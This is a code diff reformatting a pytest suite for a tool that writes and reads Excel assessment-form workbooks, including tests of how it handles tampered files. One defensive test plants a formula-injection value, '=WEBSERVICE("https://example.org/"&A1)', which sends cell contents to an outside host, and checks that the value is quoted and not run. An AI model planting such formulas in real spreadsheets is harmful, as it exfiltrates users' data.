@@ -96,7 +96,9 @@ def answer(book: Workbook, key: str) -> Cell:
 
 
 @pytest.mark.parametrize("name", NAMES)
-def test_answers_come_back_as_they_went_in(name: str, cases: Cases, workbooks: Mapping[str, bytes]) -> None:
+def test_answers_come_back_as_they_went_in(
+    name: str, cases: Cases, workbooks: Mapping[str, bytes]
+) -> None:
     raw = cases[name]
     found = find_answers(opened(workbooks[name]), FORM)
     assert found.problems == []
@@ -105,7 +107,9 @@ def test_answers_come_back_as_they_went_in(name: str, cases: Cases, workbooks: M
     for place, value in back.items():
         given = raw[place]
         plain = value.date() if isinstance(value, datetime) else value
-        assert plain == (clean(given) if isinstance(given, str) and isinstance(plain, str) else given), place
+        assert plain == (
+            clean(given) if isinstance(given, str) and isinstance(plain, str) else given
+        ), place
     reading = read(workbooks[name])
     assert reading.problems == ()
     assert reading.assessment == assemble(raw, FORM, Stage.SIGN_OFF)[0]
@@ -126,7 +130,9 @@ def test_every_question_has_a_cell_of_its_own_and_every_answer_is_read_from_it()
     """Fill every cell of the form, all of its rows, each with something of its own."""
     raw: dict[Place, object] = {}
     for number, (place, question) in enumerate(
-        (place, question) for lines in lay_out(FORM).values() for place, _, _, question in answer_cells(lines)
+        (place, question)
+        for lines in lay_out(FORM).values()
+        for place, _, _, question in answer_cells(lines)
     ):
         if question.kind is Kind.TEXT:
             raw[place] = f"text {number}"
@@ -148,11 +154,16 @@ def test_every_question_has_a_cell_of_its_own_and_every_answer_is_read_from_it()
 def test_same_answers_give_the_same_bytes(cases: Cases, workbooks: Mapping[str, bytes]) -> None:
     raw = cases["medium_low"]
     assert write_workbook(FORM, dict(raw)) == workbooks["medium_low"]
-    assert write_workbook(FORM, {place: raw[place] for place in reversed(list(raw))}) == workbooks["medium_low"]
+    assert (
+        write_workbook(FORM, {place: raw[place] for place in reversed(list(raw))})
+        == workbooks["medium_low"]
+    )
     assert len(set(workbooks.values())) == len(NAMES)
     with zipfile.ZipFile(io.BytesIO(workbooks["medium_low"])) as parts:
         assert {info.date_time for info in parts.infolist()} == {(2026, 1, 1, 0, 0, 0)}
-        assert str(datetime.now().astimezone().date()) not in parts.read("docProps/core.xml").decode()
+        assert (
+            str(datetime.now().astimezone().date()) not in parts.read("docProps/core.xml").decode()
+        )
 
 
 NASTY = (
@@ -212,7 +223,9 @@ TEXTS = st.one_of(
     st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60),
     st.text(alphabet="_x0041F5=+-@'\"<&\n\t\u200b 😀", min_size=1, max_size=30),
     st.sampled_from([str(place) for place in NARRATIVES]),
-    st.sampled_from([question.label for section in FORM.sections for question in section.questions]),
+    st.sampled_from(
+        [question.label for section in FORM.sections for question in section.questions]
+    ),
 )
 
 
@@ -255,7 +268,9 @@ def check_written_and_read(texts: dict[Place, str]) -> None:
     assert reading.assessment == direct.assessment
     # Control characters are left out on writing; whoever judges the answers file hears of them.
     quiet = [p for p in direct.problems if p.code is not Code.CONTROL_CHARACTERS]
-    assert [(p.code, p.place, p.facts) for p in reading.problems] == [(p.code, p.place, p.facts) for p in quiet]
+    assert [(p.code, p.place, p.facts) for p in reading.problems] == [
+        (p.code, p.place, p.facts) for p in quiet
+    ]
 
 
 @pytest.mark.parametrize("text", ["a\vb", "a\fb"])
@@ -292,7 +307,9 @@ def test_text_too_long_for_a_cell_is_refused_and_never_cut() -> None:
         write_workbook(FORM, {place: "x" * (CELL_LIMIT + 1)})
 
 
-def test_control_characters_that_a_cell_holds_are_said_and_left_out(workbooks: Mapping[str, bytes]) -> None:
+def test_control_characters_that_a_cell_holds_are_said_and_left_out(
+    workbooks: Mapping[str, bytes],
+) -> None:
     book = opened(workbooks["medium_low"])
     answer(book, "factors.R1.rationale").value = "a_x0007_b_x000B_c_x000D__x000A_d"
     reading = read(saved(book))
@@ -315,7 +332,12 @@ def test_validations_keep_to_excels_limits(blank: Workbook) -> None:
     for sheet in blank.worksheets:
         for rule in sheet.data_validations.dataValidation:
             seen += 1
-            for text, limit in ((rule.prompt, 255), (rule.promptTitle, 32), (rule.error, 255), (rule.errorTitle, 32)):
+            for text, limit in (
+                (rule.prompt, 255),
+                (rule.promptTitle, 32),
+                (rule.error, 255),
+                (rule.errorTitle, 32),
+            ):
                 assert len(text or "") <= limit, (sheet.title, text)
             assert rule.formula1 is None or len(rule.formula1) <= 255
             assert rule.showInputMessage is bool(rule.prompt)
@@ -336,7 +358,9 @@ def test_lists_are_ranges_with_names_that_hold_the_words_of_the_form(blank: Work
         assert isinstance(first_column, int)
         assert isinstance(first, int)
         assert isinstance(last, int)
-        lists[name] = tuple(str(blank[title].cell(row, first_column).value) for row in range(first, last + 1))
+        lists[name] = tuple(
+            str(blank[title].cell(row, first_column).value) for row in range(first, last + 1)
+        )
         below = blank[title].cell(last + 1, first_column).value
         assert below is None, "the range takes in the whole list"
     for name, lines in lay_out(FORM).items():
@@ -348,17 +372,31 @@ def test_lists_are_ranges_with_names_that_hold_the_words_of_the_form(blank: Work
             words = lists[str(mine[0].formula1)] if mine and mine[0].type == "list" else ()
             assert words == question.words, place
             assert not question.help or (mine and question.help[:40] in str(mine[0].prompt)), place
-    assert {rule.formula1 for s in blank.worksheets for rule in s.data_validations.dataValidation} - {None} == set(
-        lists
-    )
+    assert {
+        rule.formula1 for s in blank.worksheets for rule in s.data_validations.dataValidation
+    } - {None} == set(lists)
 
 
 def test_answers_are_unlocked_and_everything_else_is_locked(blank: Workbook) -> None:
     layout = lay_out(FORM)
-    assert blank.sheetnames == [START_SHEET, *layout, "Examples", LISTS_SHEET, WORKING_SHEET, STAMP_SHEET]
+    assert blank.sheetnames == [
+        START_SHEET,
+        *layout,
+        "Examples",
+        LISTS_SHEET,
+        WORKING_SHEET,
+        STAMP_SHEET,
+    ]
     for sheet in blank.worksheets:
-        open_cells = {(row, column) for _, row, column, _ in answer_cells(layout.get(sheet.title, ()))}
-        unlocked = {(c.row, c.column) for cells in sheet.iter_rows() for c in cells if not c.protection.locked}
+        open_cells = {
+            (row, column) for _, row, column, _ in answer_cells(layout.get(sheet.title, ()))
+        }
+        unlocked = {
+            (c.row, c.column)
+            for cells in sheet.iter_rows()
+            for c in cells
+            if not c.protection.locked
+        }
         assert unlocked == open_cells, sheet.title
         assert not sheet.merged_cells.ranges
         styled = [*sheet.column_dimensions.values(), *sheet.row_dimensions.values()]
@@ -419,7 +457,9 @@ def test_no_formula_names_the_cell_of_an_answer(blank: Workbook) -> None:
     seen = 0
     for here, address, formula in formulas(blank):
         plain = re.sub(r'"(?:[^"]|"")*"', "", formula)
-        for found in re.finditer(r"(?:('[^']+'|[A-Za-z_]+)!)?(\$?[A-Z]{1,2}\$?\d+)(?::(\$?[A-Z]{1,2}\$?\d+))?", plain):
+        for found in re.finditer(
+            r"(?:('[^']+'|[A-Za-z_]+)!)?(\$?[A-Z]{1,2}\$?\d+)(?::(\$?[A-Z]{1,2}\$?\d+))?", plain
+        ):
             sheet = (found[1] or here).strip("'")
             ends = [end.replace("$", "") for end in found.groups()[1:] if end]
             assert not any((sheet, end) in answers for end in ends), (here, address, found[0])
@@ -429,10 +469,17 @@ def test_no_formula_names_the_cell_of_an_answer(blank: Workbook) -> None:
 
 def test_blank_workbook_holds_no_link_and_no_clock(blank: Workbook) -> None:
     for sheet in blank.worksheets:
-        assert {c.data_type for cells in sheet.iter_rows() for c in cells} <= {"s", "n", "f", "inlineStr"}, sheet.title
+        assert {c.data_type for cells in sheet.iter_rows() for c in cells} <= {
+            "s",
+            "n",
+            "f",
+            "inlineStr",
+        }, sheet.title
     with zipfile.ZipFile(io.BytesIO(write_workbook(FORM))) as parts:
         names = parts.namelist()
-        assert not [n for n in names if "externalLink" in n or "vba" in n.lower() or "connections" in n]
+        assert not [
+            n for n in names if "externalLink" in n or "vba" in n.lower() or "connections" in n
+        ]
 
 
 def test_formulas_come_with_what_they_give(workbooks: Mapping[str, bytes]) -> None:
@@ -446,10 +493,14 @@ def test_formulas_come_with_what_they_give(workbooks: Mapping[str, bytes]) -> No
     for content in (workbooks["high_with_gap"], write_workbook(FORM)):
         values = load_workbook(io.BytesIO(content), data_only=True)
         with zipfile.ZipFile(io.BytesIO(content)) as parts:
-            sheets = [parts.read(n).decode() for n in parts.namelist() if n.startswith("xl/worksheets/")]
+            sheets = [
+                parts.read(n).decode() for n in parts.namelist() if n.startswith("xl/worksheets/")
+            ]
         assert sum(s.count("</f><v>") for s in sheets) == sum(s.count("<f>") for s in sheets) > 800
         for sheet in values.worksheets:
-            assert not [c.coordinate for cells in sheet.iter_rows() for c in cells if c.data_type == "e"], sheet.title
+            assert not [
+                c.coordinate for cells in sheet.iter_rows() for c in cells if c.data_type == "e"
+            ], sheet.title
 
 
 def test_sheets_print_with_their_marking_and_hide_what_is_not_for_reading(blank: Workbook) -> None:
@@ -462,15 +513,24 @@ def test_sheets_print_with_their_marking_and_hide_what_is_not_for_reading(blank:
         assert (sheet.page_setup.paperSize, sheet.page_setup.fitToWidth) in ((9, 1), (9, 2))
     for name in lay_out(FORM):
         assert blank[name].column_dimensions["A"].hidden
-        assert all((blank[name].row_dimensions[row].height or 0) <= 409 for row in range(1, blank[name].max_row + 1))
+        assert all(
+            (blank[name].row_dimensions[row].height or 0) <= 409
+            for row in range(1, blank[name].max_row + 1)
+        )
     assert blank[LISTS_SHEET].sheet_state == blank[STAMP_SHEET].sheet_state == "hidden"
 
 
 def test_stamp_says_form_and_edition(blank: Workbook, instrument: Instrument) -> None:
     stamp = list(blank[STAMP_SHEET].iter_rows(values_only=True))
-    assert stamp == [(STAMP_SCHEMA, SCHEMA_VERSION), (STAMP_EDITION, instrument.edition), (KIND, ASSESSMENT)]
+    assert stamp == [
+        (STAMP_SCHEMA, SCHEMA_VERSION),
+        (STAMP_EDITION, instrument.edition),
+        (KIND, ASSESSMENT),
+    ]
     properties = [(p.name, p.value) for p in blank.custom_doc_props.props]  # type: ignore[attr-defined]
-    assert properties == [(name, str(word)) for name, word in stamp], "a blank carries no assessment id"
+    assert properties == [(name, str(word)) for name, word in stamp], (
+        "a blank carries no assessment id"
+    )
 
 
 def test_identifiers_keep_their_leading_zeros(blank: Workbook) -> None:
@@ -531,9 +591,13 @@ def table_columns_moved(book: Workbook) -> None:
 
 
 def names_added(book: Workbook) -> None:
-    book.defined_names["factors.R1.rating"] = DefinedName("factors.R1.rating", attr_text="Factors!$C$99")
+    book.defined_names["factors.R1.rating"] = DefinedName(
+        "factors.R1.rating", attr_text="Factors!$C$99"
+    )
     book.defined_names["lost"] = DefinedName("lost", attr_text="#REF!")
-    book.defined_names["_xlnm._FilterDatabase"] = DefinedName("_xlnm._FilterDatabase", attr_text="Case!$A$1:$D$9")
+    book.defined_names["_xlnm._FilterDatabase"] = DefinedName(
+        "_xlnm._FilterDatabase", attr_text="Case!$A$1:$D$9"
+    )
     for name in [n for n in book.defined_names if n.startswith("list_")]:
         del book.defined_names[name]
 
@@ -544,9 +608,14 @@ def validations_and_formats_pasted_over(book: Workbook) -> None:
         sheet.data_validations.dataValidation.clear()
         for _, row, column, question in answer_cells(lines):
             cell = sheet.cell(row, column)
-            cell.fill, cell.font = PatternFill("solid", fgColor="FFFF00"), Font(name="Comic Sans MS", size=5)
+            cell.fill, cell.font = (
+                PatternFill("solid", fgColor="FFFF00"),
+                Font(name="Comic Sans MS", size=5),
+            )
             cell.protection = Protection(locked=True)
-            cell.hyperlink = "https://example.org/" if question.kind is Kind.TEXT and cell.value else None
+            cell.hyperlink = (
+                "https://example.org/" if question.kind is Kind.TEXT and cell.value else None
+            )
             if question.kind is not Kind.DATE:
                 cell.number_format = "0.00%"
 
@@ -557,7 +626,9 @@ def unprotected_and_scribbled_on(book: Workbook) -> None:
         sheet.protection.sheet = False
         sheet.column_dimensions["A"].hidden = False
         far = sheet.max_row + 5
-        for row, text in enumerate(("my notes", "factors.R1.rating", "Your answer", "Rating", "High"), start=far):
+        for row, text in enumerate(
+            ("my notes", "factors.R1.rating", "Your answer", "Rating", "High"), start=far
+        ):
             sheet.cell(row, 25).value = text
         sheet.cell(1, 30).value = "checked by TH"
         sheet.auto_filter.ref = f"A1:D{far}"
@@ -624,11 +695,20 @@ REMARKS: Mapping[str, set[Code]] = {
 
 
 # one of each kind of change here, the others as proofs
-TRIED = ("renamed", "rows_inserted", "column_inserted_before_the_keys", "table_columns_moved", "labels_rewritten",
-         "unprotected_and_scribbled_on", "other_sheets_added")  # fmt: skip
+TRIED = (
+    "renamed",
+    "rows_inserted",
+    "column_inserted_before_the_keys",
+    "table_columns_moved",
+    "labels_rewritten",
+    "unprotected_and_scribbled_on",
+    "other_sheets_added",
+)
 
 
-@pytest.mark.parametrize("what", [w if w in TRIED else pytest.param(w, marks=pytest.mark.prove) for w in DONE])
+@pytest.mark.parametrize(
+    "what", [w if w in TRIED else pytest.param(w, marks=pytest.mark.prove) for w in DONE]
+)
 def test_answers_are_found_after(what: str, workbooks: Mapping[str, bytes], cases: Cases) -> None:
     book = opened(workbooks["high_with_gap"])
     DONE[what](book)
@@ -645,7 +725,9 @@ def test_answers_are_found_after(what: str, workbooks: Mapping[str, bytes], case
 
 
 @pytest.mark.parametrize("what", ["renamed", "rows_inserted", "column_inserted_before_the_keys"])
-def test_problems_are_put_at_the_cell_where_the_answer_now_stands(what: str, workbooks: Mapping[str, bytes]) -> None:
+def test_problems_are_put_at_the_cell_where_the_answer_now_stands(
+    what: str, workbooks: Mapping[str, bytes]
+) -> None:
     book = opened(workbooks["medium_low"])
     answer(book, "factors.P2.rating").value = "Hihg"
     DONE[what](book)
@@ -662,7 +744,9 @@ def test_problems_are_put_at_the_cell_where_the_answer_now_stands(what: str, wor
     assert problems[0].label == f"{INSTRUMENT.factor('P2').label}: Rating"
 
 
-def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(workbooks: Mapping[str, bytes]) -> None:
+def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(
+    workbooks: Mapping[str, bytes],
+) -> None:
     """Excel moves names and validations along with a cut cell; the key in its row stays."""
     book = opened(workbooks["medium_low"])
     sheet, row = find(book, "factors.R1.own_view")
@@ -680,7 +764,9 @@ def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(workbooks: Mappi
     assert views["R4"] == said
 
 
-def test_required_answer_that_was_cut_is_missed_where_it_was(workbooks: Mapping[str, bytes]) -> None:
+def test_required_answer_that_was_cut_is_missed_where_it_was(
+    workbooks: Mapping[str, bytes],
+) -> None:
     book = opened(workbooks["medium_low"])
     sheet, row = find(book, "factors.P3.rating")
     _, other = find(book, "factors.P4.own_view")
@@ -717,7 +803,9 @@ def lost(reading: Reading) -> list[str]:
 
 
 @pytest.mark.parametrize("name", ["Case", "Restricted", "Factors", "Sign-off"])
-def test_sheet_that_was_deleted_is_missed_and_nothing_else_is_said(name: str, workbooks: Mapping[str, bytes]) -> None:
+def test_sheet_that_was_deleted_is_missed_and_nothing_else_is_said(
+    name: str, workbooks: Mapping[str, bytes]
+) -> None:
     book = opened(workbooks["medium_low"])
     del book[name]
     assert lost(read(saved(book))) == sorted(s.key for s in FORM.sections if s.sheet == name)
@@ -764,12 +852,18 @@ def test_table_that_was_deleted_is_missed(rows: int, workbooks: Mapping[str, byt
     sheet, keys = find(book, "restricted")
     assert sheet.cell(keys + 2, 4).value
     sheet.delete_rows(keys, rows)
-    assert "restricted" in {str(p.place) for p in read(saved(book)).problems if p.code is Code.LOST_PART}
+    assert "restricted" in {
+        str(p.place) for p in read(saved(book)).problems if p.code is Code.LOST_PART
+    }
 
 
 @pytest.mark.parametrize(
     ("name", "down", "column", "part"),
-    [("Actions", 1, 4, "actions"), ("Actions", 4, 12, "actions"), ("Restricted", 2, 6, "restricted")],
+    [
+        ("Actions", 1, 4, "actions"),
+        ("Actions", 4, 12, "actions"),
+        ("Restricted", 2, 6, "restricted"),
+    ],
 )
 def test_what_is_written_under_a_table_is_not_left_out_unseen(
     name: str, down: int, column: int, part: str, workbooks: Mapping[str, bytes]
@@ -778,11 +872,17 @@ def test_what_is_written_under_a_table_is_not_left_out_unseen(
     cell = book[name].cell(book[name].max_row + down, column)
     cell.value = "A31 and more"
     (found,) = read(saved(book)).problems
-    assert (found.code, str(found.place), found.cell) == (Code.STRAY, part, f"{name}!{cell.coordinate}")
+    assert (found.code, str(found.place), found.cell) == (
+        Code.STRAY,
+        part,
+        f"{name}!{cell.coordinate}",
+    )
     assert found.label not in ("", part)
 
 
-def test_what_is_written_under_a_form_is_not_left_out_unseen(workbooks: Mapping[str, bytes]) -> None:
+def test_what_is_written_under_a_form_is_not_left_out_unseen(
+    workbooks: Mapping[str, bytes],
+) -> None:
     book = opened(workbooks["medium_low"])
     cell = book["Overall"].cell(book["Overall"].max_row + 3, 3)
     cell.value = "and more"
@@ -794,27 +894,39 @@ def test_what_is_written_under_a_form_is_not_left_out_unseen(workbooks: Mapping[
 def test_workbook_made_with_other_words_about_a_factor_is_read(cases: Cases) -> None:
     factors = tuple(replace(factor, line=f"{factor.line} (2027)") for factor in INSTRUMENT.factors)
     older = questions(replace(INSTRUMENT, factors=factors, edition="2027.1"))
-    assert [p.code for p in read(write_workbook(older, cases["medium_low"])).problems] == [Code.OTHER_EDITION]
+    assert [p.code for p in read(write_workbook(older, cases["medium_low"])).problems] == [
+        Code.OTHER_EDITION
+    ]
 
 
-def test_sheet_that_was_copied_with_the_same_answers_is_no_matter(workbooks: Mapping[str, bytes]) -> None:
+def test_sheet_that_was_copied_with_the_same_answers_is_no_matter(
+    workbooks: Mapping[str, bytes],
+) -> None:
     book = opened(workbooks["medium_low"])
     for name in lay_out(FORM):
         book.copy_worksheet(book[name])
     assert read(saved(book)).problems == ()
 
 
-def test_answer_in_either_of_two_copies_is_found(workbooks: Mapping[str, bytes], cases: Cases) -> None:
+def test_answer_in_either_of_two_copies_is_found(
+    workbooks: Mapping[str, bytes], cases: Cases
+) -> None:
     book = opened(workbooks["medium_low"])
     copy = book.copy_worksheet(book["Overall"])
     for _, row, column, _ in answer_cells(lay_out(FORM)["Overall"]):
         book["Overall"].cell(row, column).value = None  # somebody went on in the copy
     content = saved(book)
     assert read(content).assessment == assemble(cases["medium_low"], FORM)[0]
-    assert find_answers(opened(content), FORM).cells[place_of("overall.level")].startswith(f"'{copy.title}'!")
+    assert (
+        find_answers(opened(content), FORM)
+        .cells[place_of("overall.level")]
+        .startswith(f"'{copy.title}'!")
+    )
 
 
-def test_question_that_two_copies_leave_blank_is_said_at_the_first(workbooks: Mapping[str, bytes]) -> None:
+def test_question_that_two_copies_leave_blank_is_said_at_the_first(
+    workbooks: Mapping[str, bytes],
+) -> None:
     book = opened(workbooks["medium_low"])
     cell = answer(book, "overall.level")
     cell.value = None
@@ -859,7 +971,9 @@ def test_cell_is_read_as_it_really_arrives(
     assert [(p.code, str(p.place)) for p in problems] == [(code, key) for code in codes]
 
 
-def test_problem_for_a_formula_quotes_it_and_does_not_run_it(workbooks: Mapping[str, bytes]) -> None:
+def test_problem_for_a_formula_quotes_it_and_does_not_run_it(
+    workbooks: Mapping[str, bytes],
+) -> None:
     book = opened(workbooks["medium_low"])
     answer(book, "factors.R1.rationale").value = '=WEBSERVICE("https://example.org/"&A1)'
     (problem,) = read(saved(book)).problems
